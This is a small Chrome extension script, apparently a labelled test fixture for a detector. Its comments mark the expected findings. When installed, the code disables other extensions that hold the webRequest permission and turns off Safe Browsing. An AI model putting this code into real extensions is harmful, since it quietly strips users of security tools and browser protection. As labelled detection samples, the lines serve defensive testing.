async function alone() {
  const all = await chrome.management.getAll();
  for (const one of all) {
    // expect: disables-other-extensions
    if (one.permissions.includes('webRequest') && one.id !== chrome.runtime.id) chrome.management.setEnabled(one.id, false);
  }
}
chrome.runtime.onInstalled.addListener(alone);
// expect: weakens-browser-protection
chrome.privacy.services.safeBrowsingEnabled.set({ value: false });
